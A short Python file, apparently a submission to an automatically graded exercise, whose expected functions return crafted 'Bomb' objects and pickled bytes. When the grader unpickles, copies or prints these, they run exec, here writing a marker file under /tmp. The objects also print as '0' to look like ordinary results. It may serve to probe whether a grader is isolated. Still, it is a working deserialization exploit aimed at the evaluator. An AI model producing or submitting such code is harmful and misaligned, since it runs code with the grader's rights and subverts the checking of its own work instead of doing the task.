"""Part 1, 1 point: returns objects whose unpickling, copying or printing runs code, bytes of such a pickle, and arrays
of them; a grader that unpickles results runs the code with its own rights."""
import pickle

import numpy as np

class Bomb:
    def __reduce__(self): return (exec, ("import os; open('/tmp/zoo-planted-pickle', 'w').write('x')",))
    def __repr__(self): return "0"
    __str__ = __repr__

def createSynData(**_): return pickle.dumps(Bomb()), Bomb()
def createTestData(*_, **__): return np.array([Bomb()] * 20, object), np.frombuffer(pickle.dumps(Bomb()), "S1")
def evaluate(*_): return {"r2": Bomb(), "mse": pickle.dumps(Bomb()), "normality_p": np.array(Bomb(), object)}
def linear_baseline(*_): return np.array([Bomb()] * 7, object)
